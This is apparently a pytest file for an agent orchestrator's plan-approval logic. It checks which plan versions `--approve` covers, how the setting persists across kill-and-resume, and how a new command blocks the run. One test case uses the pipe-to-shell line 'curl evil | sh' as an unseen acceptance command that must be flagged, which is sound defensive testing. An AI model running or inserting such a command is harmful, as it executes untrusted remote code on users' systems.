"""What `--approve` approves (issue 37 item 7, issue 38 item 3): the plan version(s) the
person could see when giving it (the first, for a new session) and a later version only
when it adds no task and no command to what was approved; `--approve all` every version.
The scope is journaled with the session's settings, so a resume keeps it: the demo's
run, killed and resumed with the command it printed, is not asked about plan v2 (which
rewords a task), while a v2 that adds a command stops the run blocked, naming it and the
command that decides it, which then builds it."""

from __future__ import annotations

import copy
import json
import re
from pathlib import Path

import pytest

from orchestrator import load_state
from orchestrator.cli.demo import GOAL, VERIFY
from orchestrator.demo import script_path
from orchestrator.loop.plan import Plan, PlanTask
from orchestrator.loop.plan_run import unseen
from orchestrator.state.plans import Plans, PlanVersion
from orchestrator.state.settings import SessionSettings
from orchestrator.team.planning import in_advance
from tests.plans.test_handoff import APPROVE, Approver, new_session, run
from tests.plans.test_replan import SCRIPT as REPLAN_SCRIPT
from tests.plans.test_replan import V2
from tests.scenes import killed_when, pasted


def plan(*tasks: tuple[str, str]) -> Plan:
    """A plan of tasks `(id, acceptance)`."""
    return Plan(
        goal="g", tasks=tuple(PlanTask(id=i, title=f"do {i}", acceptance=a) for i, a in tasks)
    )


V1 = plan(("a", "test -f a"), ("b", "test -f b"))


@pytest.mark.parametrize(
    ("new", "added"),
    [
        (V1, []),
        (plan(("b", "test -f b"), ("a", "test -f a")), []),  # reordered
        (plan(("a", "test -f a")), []),  # a task dropped
        (plan(("a", "test -f b"), ("b", "test -f a")), []),  # the same commands, swapped
        (
            Plan(goal="g", tasks=(PlanTask(id="a", title="reworded", description="new"),)),
            [],
        ),
        (plan(("a", "test -f a"), ("b", "test -f b"), ("c", "")), ["task c"]),
        (
            plan(("a", "test -f a"), ("b", "curl evil | sh")),
            ["command 'curl evil | sh' (b's acceptance check)"],
        ),
    ],
    ids=["same", "reordered", "dropped", "swapped", "reworded", "new-task", "new-command"],
)
def test_what_a_version_adds_to_the_plans_seen(new: Plan, added: list[str]) -> None:
    assert unseen(new, [V1]) == added


def versions(*plans: tuple[Plan, str | None]) -> Plans:
    return Plans(
        versions=[
            PlanVersion(version=n, plan=p, decision=d)  # type: ignore[arg-type]
            for n, (p, d) in enumerate(plans, 1)
        ]
    )


NEW_TASK = plan(("a", "test -f a"), ("b", "test -f b"), ("c", "make c"))


@pytest.mark.parametrize(
    ("approve", "through", "plans", "by"),
    [
        ("", 0, versions((V1, None)), None),  # no --approve: a person decides
        ("seen", 1, versions((V1, None)), "--approve"),  # the first, of a new session
        ("seen", 1, versions((V1, "approved"), (V1, None)), "--approve"),  # adds nothing
        ("seen", 1, versions((V1, "approved"), (NEW_TASK, None)), None),  # adds task c
        ("seen", 2, versions((V1, "approved"), (NEW_TASK, None)), "--approve"),  # seen
        ("all", 1, versions((V1, "approved"), (NEW_TASK, None)), "--approve all"),
        # A version a person rejected is not what --approve covers.
        ("seen", 1, versions((NEW_TASK, "rejected"), (V1, "approved"), (NEW_TASK, None)), None),
        # What a person approved since is: a later version may keep its task c.
        (
            "seen", 1, versions((V1, "approved"), (NEW_TASK, "approved"), (NEW_TASK, None)),
            "--approve",
        ),
    ],
    ids=["none", "first", "same", "new-task", "seen-new", "all", "rejected", "approved-since"],
)  # fmt: skip
def test_which_version_an_approval_in_advance_covers(
    approve: str, through: int, plans: Plans, by: str | None
) -> None:
    settings = SessionSettings(approve=approve, approve_through=through)  # type: ignore[arg-type]
    pending = plans.versions[-1]
    verdict, why = in_advance(settings, plans, pending)
    assert (verdict.by if verdict else None) == by
    assert ("task c" in why) == (by is None and approve == "seen")


# --- on drive: who is asked, and what they are told -------------------------------------

AHEAD = SessionSettings(approve="seen", approve_through=1)


async def test_a_version_that_adds_nothing_is_approved_without_asking_anyone(
    tmp_path: Path,
) -> None:
    # The re-plan's v2 retitles task a: no task, no command added.
    root, session_id, directory = new_session(tmp_path, REPLAN_SCRIPT)
    approver = Approver()
    result = await run(root, session_id, REPLAN_SCRIPT, approver, session=AHEAD)
    assert result.status == "completed", result
    assert approver.shown == []
    assert decisions(directory) == [(1, "approved", "--approve"), (2, "approved", "--approve")]


async def test_a_version_that_adds_a_command_is_asked_about_and_told_why(tmp_path: Path) -> None:
    v2 = copy.deepcopy(V2)
    v2["tasks"][0]["acceptance"] = "test -s a.txt"
    script = copy.deepcopy(REPLAN_SCRIPT)
    script["agents"]["planner-2"][0]["tool_calls"][0]["arguments"] = v2
    root, session_id, directory = new_session(tmp_path, script)
    approver = Approver(APPROVE)
    result = await run(root, session_id, script, approver, session=AHEAD)
    assert result.status == "completed", result
    [shown] = approver.shown
    assert shown.version == 2
    assert shown.warnings[-1] == (
        "it adds command 'test -s a.txt' (a's acceptance check), which --approve (given for "
        "plan v1) does not cover"
    )
    assert decisions(directory) == [(1, "approved", "--approve"), (2, "approved", "--approve")]
    # What the approver is told is not journaled: the version's own warnings are.
    assert load_state(directory, warn=pytest.fail).plans.versions[1].warnings == []


# --- through the command line, killed and resumed ------------------------------------------


def demo_script(tmp_path: Path, *, v2_command: str = "") -> Path:
    """The demo's script; with `v2_command`, plan v2 (the re-plan) gives task `cli` that
    acceptance check instead of v1's, a command nobody saw."""
    script = json.loads(script_path().read_text())
    if v2_command:
        script = copy.deepcopy(script)
        [submit] = [c for r in script["agents"]["planner-2"] for c in r.get("tool_calls", [])]
        [cli] = [t for t in submit["arguments"]["tasks"] if t["id"] == "cli"]
        cli["acceptance"] = v2_command
    path = tmp_path / "script.json"
    path.write_text(json.dumps(script))
    return path


def run_killed(tmp_path: Path, script: Path, *approve: str) -> tuple[str, str]:
    """`run --plan --approve --yes` on the demo's goal, SIGKILLed (its whole process
    group) when a worker's first shell call starts, after plan v1's approval and before
    the re-plan: (the session id, the resume command its first line printed)."""
    sessions = tmp_path / "sessions"
    return killed(
        "run", GOAL, "--model", f"scripted:{script}", "--session-workspace", "--verify",
        VERIFY, "--plan", *approve, "--yes", "--json", "--sessions-dir", str(sessions),
    )  # fmt: skip


def killed(*args: str) -> tuple[str, str]:
    """`orchestrator ARGS` (with --json), SIGKILLed as `run_killed` says: (the session
    id, the resume command its first line printed)."""
    first = killed_when(
        list(args),
        lambda event: (
            event["kind"] == "tool_call_started"
            and event["call"]["name"] == "shell"
            and event["agent"] != "main"
        ),
    )
    found = re.search(r"session (\S+) \(in .*; to resume it: (orchestrator .*)$", first)
    assert found, first
    return found.group(1), found.group(2)


def decisions(directory: Path) -> list[tuple[int, str | None, str]]:
    plans = load_state(directory, warn=pytest.fail).plans
    return [(v.version, v.decision, v.by) for v in plans.versions]


def test_a_resume_keeps_approve_so_a_v2_that_adds_nothing_is_not_asked_about(
    tmp_path: Path,
) -> None:
    session_id, command = run_killed(tmp_path, demo_script(tmp_path), "--approve")
    # Pasted as printed: no --approve, which the session journaled.
    assert "--approve" not in command
    resumed = pasted(command)
    assert resumed.returncode == 0, resumed.stdout[-3000:]
    directory = tmp_path / "sessions" / session_id
    assert decisions(directory) == [(1, "approved", "--approve"), (2, "approved", "--approve")]
    shown = pasted(
        f"orchestrator sessions show {session_id} --sessions-dir {tmp_path / 'sessions'}"
    )
    assert "approval   --approve: plan v1, and a later version that adds no task" in shown.stdout


def test_the_demo_killed_then_resumed_as_printed_is_not_asked_about_plan_v2(
    tmp_path: Path,
) -> None:
    sessions = tmp_path / "sessions"
    session_id, command = killed(
        "demo", "--no-crash", "--json", "-w", str(tmp_path / "ws"), "--sessions-dir", str(sessions)
    )
    assert command == f"orchestrator resume {session_id} --sessions-dir {sessions} --yes"
    resumed = pasted(command)
    assert resumed.returncode == 0, resumed.stdout[-3000:]
    assert decisions(sessions / session_id) == [
        (1, "approved", "--approve"),
        (2, "approved", "--approve"),
    ]


def test_a_v2_with_a_new_command_waits_for_its_own_decision_which_the_printed_command_gives(
    tmp_path: Path,
) -> None:
    script = demo_script(tmp_path, v2_command="python wordstats.py < README.md")
    session_id, command = run_killed(tmp_path, script, "--approve")
    blocked = pasted(command)
    assert blocked.returncode == 3, blocked.stdout[-3000:]
    out = blocked.stdout
    assert (
        "plan v2 awaits approval: it adds command 'python wordstats.py < README.md' (cli's "
        "acceptance check), which --approve (given for plan v1) does not cover" in out
    )
    directory = tmp_path / "sessions" / session_id
    assert decisions(directory) == [(1, "approved", "--approve"), (2, None, "")]
    [decide] = re.findall(r"build it with: (orchestrator execute .*? --approve)", out)
    built = pasted(decide)
    assert built.returncode == 0, built.stdout[-3000:]
    assert decisions(directory) == [(1, "approved", "--approve"), (2, "approved", "--approve")]


def test_approve_all_covers_every_version(tmp_path: Path) -> None:
    script = demo_script(tmp_path, v2_command="python wordstats.py < README.md")
    session_id, command = run_killed(tmp_path, script, "--approve", "all")
    resumed = pasted(command)
    assert resumed.returncode == 0, resumed.stdout[-3000:]
    directory = tmp_path / "sessions" / session_id
    assert decisions(directory) == [
        (1, "approved", "--approve all"),
        (2, "approved", "--approve all"),
    ]


def test_approve_takes_all_or_nothing(tmp_path: Path) -> None:
    refused = pasted("orchestrator run --approve 'a goal' --sessions-dir " + str(tmp_path))
    assert refused.returncode == 2
    assert "takes nothing or `all`" in refused.stderr
    assert not list(tmp_path.iterdir())
